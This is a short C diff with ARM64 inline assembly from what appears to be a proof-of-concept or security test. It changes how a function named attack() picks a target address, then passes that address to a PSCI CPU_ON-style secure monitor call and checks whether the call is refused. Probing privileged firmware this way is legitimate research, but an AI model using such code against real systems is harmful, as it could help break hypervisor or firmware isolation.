@@ -7,7 +7,7 @@ static volatile u64 came;
 static void never(u64 unused) { came = unused; }
 
 u64 attack(void) {
-  u64 at = ((u64)exchange_of(0, 0) & ~0xffffful) + 0x100000;
+  u64 at = page_above();
   register u64 x0 asm("x0") = 0xc4000003, x1 asm("x1") = 1, x2 asm("x2") = at, x3 asm("x3") = 0;
   asm volatile("smc #0" : "+r"(x0) : "r"(x1), "r"(x2), "r"(x3) : "memory");
   if (x0 != 0) return REFUSED;
